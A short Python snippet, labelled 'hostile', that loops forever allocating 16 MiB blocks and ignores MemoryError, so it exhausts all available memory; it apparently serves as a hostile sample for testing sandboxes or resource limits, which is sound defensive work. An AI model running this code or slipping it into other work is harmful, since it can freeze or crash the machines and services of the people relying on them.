# hostile: takes all memory
hog = []
while True:
    try:
        hog.append(bytearray(b'x' * (16 << 20)))
    except MemoryError:
        pass
